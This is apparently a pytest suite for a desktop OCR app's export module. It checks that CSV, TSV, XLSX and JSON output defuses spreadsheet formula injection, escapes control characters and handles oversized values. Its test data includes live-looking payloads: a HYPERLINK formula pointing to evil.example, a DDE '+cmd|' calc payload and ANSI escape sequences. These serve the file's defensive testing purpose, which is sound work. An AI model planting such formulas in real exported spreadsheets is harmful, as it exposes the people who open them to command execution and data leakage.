"""Exports of text the app did not write: field names, control characters, huge answers.

Each test writes the file with `export.write` and reads it back the way a person's tool
would (csv module, openpyxl, json), so what is asserted is what ends up on disk.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from pictotext_desktop import export
from pictotext_desktop.records import Record

FORMULA_KEYS = ['=HYPERLINK("http://evil.example/?x","Click")', "+cmd|' /C calc'!A0",
                "-2+3", "@SUM(A1:A9)", "\tname"]


def record(fields: dict[str, str | None], source: str = "a.jpg") -> Record:
    return Record(source=source, document_type="cn_id_card", engine="cloud", fields=fields)


def read_csv(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"))))


# -- CSV / TSV header ---------------------------------------------------------------------
def test_csv_header_cells_from_the_server_are_protected(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    export.write([record({k: "v" for k in FORMULA_KEYS})], path)
    head = read_csv(path)[0]
    for key in FORMULA_KEYS:
        protected = export.excel_safe(key)
        assert protected != key and protected in head  # ="…", never a live formula
    assert not [h for h in head if h.startswith(("=", "+", "-", "@", "\t"))
                and not h.startswith('="')]
    assert [export.unprotect(h) for h in head if export.unprotect(h) in FORMULA_KEYS] \
        == FORMULA_KEYS
    # Our own header names are untouched.
    assert head[:2] == ["source", "documentType"] and head[-1] == "error_message"


def test_copied_tsv_header_is_protected_too() -> None:
    text = export.to_tsv([record({FORMULA_KEYS[0]: "v"})])
    assert not any(cell.startswith("=HYPERLINK") for cell in text.splitlines()[0].split("\t"))


def test_xlsx_header_starting_with_equals_is_text_not_a_formula(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    path = tmp_path / "out.xlsx"
    export.write([record({k: "v" for k in FORMULA_KEYS})], path)
    sheet = load_workbook(path)["Results"]
    cells = {c.value: c for c in sheet[1]}
    for key in FORMULA_KEYS:
        assert cells[key].data_type == "s", key  # stored as a string, shown as typed


# -- control characters ---------------------------------------------------------------------
def test_xlsx_keeps_control_characters_visible(tmp_path: Path) -> None:
    """openpyxl raises IllegalCharacterError on C0 controls: the export must still work and
    show them (as before silently dropping them changed the value without a word)."""
    from openpyxl import load_workbook

    path = tmp_path / "out.xlsx"
    notes = export.write([record({"name": "张\x00三\x1b[2J", "k\x01ey": "a\x0bb",
                                  "address": "line 1\nline 2\tend"}, source="a\x07.jpg")],
                         path)
    book = load_workbook(path)
    sheet = book["Results"]
    head = [c.value for c in sheet[1]]
    values = dict(zip(head, [c.value for c in sheet[2]], strict=True))
    assert values["name"] == "张\\x00三\\x1b[2J"
    assert values["k\\x01ey"] == "a\\x0bb"
    assert values["address"] == "line 1\nline 2\tend"  # tab and line breaks are legal
    assert values["source"] == "a\\x07.jpg"
    assert "Notes" in book.sheetnames and any("control characters" in n for n in notes)


def test_json_export_escapes_controls_and_round_trips(tmp_path: Path) -> None:
    fields: dict[str, str | None] = {
        "name": "张三\x1b]0;t\x07", "c1": "\x9b2J\x85", "bidi": "\u202eabc\u2066",
        "sep": "a\u2028b", "nul\x00key": "\x00", "quote": 'a"b\\c'}
    for suffix in (".json", ".jsonl"):
        path = tmp_path / f"out{suffix}"
        export.write([record(fields, source="photo-\udcb2\udce2.jpg")], path)
        raw = path.read_bytes().decode("utf-8")  # strict UTF-8: no lone surrogate on disk
        for ch in "\x1b\x07\x00\x9b\x85\u202e\u2066\u2028\udcb2":
            assert ch not in raw, repr(ch)
        assert "\\u001b" in raw and "\\u009b" in raw and "\\u202e" in raw and "张三" in raw
        loaded = json.loads(raw) if suffix == ".json" else [json.loads(raw.splitlines()[0])]
        assert loaded[0]["fields"] == fields  # the same values, exactly
        assert loaded[0]["source"] == "photo-\udcb2\udce2.jpg"


def test_csv_with_a_name_that_is_not_utf8_is_written(tmp_path: Path) -> None:
    """A GBK file name read on a UTF-8 system holds lone surrogates UTF-8 cannot encode."""
    path = tmp_path / "out.csv"
    export.write([record({"name": "张三"}, source="\udcb2\udce2.jpg")], path)
    rows = read_csv(path)
    assert rows[1][0] == "\\udcb2\\udce2.jpg" and "张三" in rows[1]


# -- huge answers ---------------------------------------------------------------------------
def test_xlsx_with_more_field_names_than_excel_has_columns(tmp_path: Path) -> None:
    """19 records of 1,000 different extra keys: 19,000 columns, past openpyxl's 18,278
    and Excel's 16,384.  The export writes what fits and keeps the rest as JSON."""
    from openpyxl import load_workbook

    records = [record({f"k{r:02d}_{i:04d}": f"v{r}.{i}" for i in range(1000)},
                      source=f"{r}.jpg") for r in range(19)]
    path = tmp_path / "wide.xlsx"
    notes = export.write(records, path)
    assert len(notes) == 1 and "other_fields" in notes[0] and "16,384" in notes[0]
    book = load_workbook(path, read_only=True)
    sheet = book["Results"]
    rows = list(sheet.iter_rows(values_only=True))
    head = list(rows[0])
    assert len(head) == export.XLSX_MAX_COLUMNS
    assert head[:2] == ["source", "documentType"]
    assert head[-5:] == [export.OTHER_FIELDS, "edited", "checks", "error_reason",
                         "error_message"]
    # Every value is still in the file: in its column, or in the record's other_fields.
    for r, rec in enumerate(records, start=1):
        cells = dict(zip(head, rows[r], strict=True))
        other = json.loads(cells[export.OTHER_FIELDS]) if cells[export.OTHER_FIELDS] else {}
        for key, value in (rec.fields or {}).items():
            assert (cells[key] if key in cells else other[key]) == value
    assert [n.value for n in next(book["Notes"].iter_rows(min_row=2, max_row=2))] == notes


def test_xlsx_cuts_a_value_past_excels_cell_limit_and_says_so(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    path = tmp_path / "long.xlsx"
    notes = export.write([record({"name": "张" * 40_000, "idNumber": "x"})], path)
    sheet = load_workbook(path)["Results"]
    head = [c.value for c in sheet[1]]
    value = dict(zip(head, [c.value for c in sheet[2]], strict=True))["name"]
    assert len(value) == export.XLSX_MAX_CELL and value.endswith("[…]")
    assert any("32,767" in n for n in notes)
    # The JSON export keeps the whole value.
    export.write([record({"name": "张" * 40_000})], tmp_path / "long.json")
    assert json.loads((tmp_path / "long.json").read_text())[0]["fields"]["name"] == "张" * 40_000


@pytest.mark.parametrize("suffix", [".csv", ".json", ".xlsx"])
def test_clean_exports_have_no_notes(tmp_path: Path, suffix: str) -> None:
    assert export.write([record({"name": "张三"})], tmp_path / f"out{suffix}") == []
